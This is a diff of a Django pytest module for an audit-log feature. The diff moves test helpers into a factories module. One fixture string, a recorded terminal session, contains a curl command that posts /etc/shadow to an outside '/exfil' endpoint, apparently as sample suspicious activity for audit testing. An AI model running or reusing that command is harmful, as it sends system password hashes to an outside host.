@@ -12,29 +12,17 @@ import shutil
 from datetime import timedelta
 
 import pytest
-from django.core.management import CommandError, call_command
+from django.core.management import call_command
 
 from audit import chain
 from audit.models import AuditEvent
-from audit.tests.factories import append, event, rehash, tampering
+from audit.tests.factories import append, broken, event, rehash, tampering, verify
 
 pytestmark = pytest.mark.django_db
 
 EVENTS = "audit_auditevent"
 CAST = ('{"version": 2, "width": 80, "height": 24, "timestamp": 1770000000}\n'
         '[0.1, "i", "curl -s http://10.0.0.7/exfil -d @/etc/shadow\\r"]\n[0.2, "o", "ok\\r\\n"]\n')
-
-
-def verify(*args) -> str:
-    out = io.StringIO()
-    call_command("verify_audit", *args, stdout=out)
-    return out.getvalue()
-
-
-def broken(*args) -> str:
-    with pytest.raises(CommandError) as exc:
-        verify(*args)
-    return str(exc.value)
 
 
 @pytest.fixture
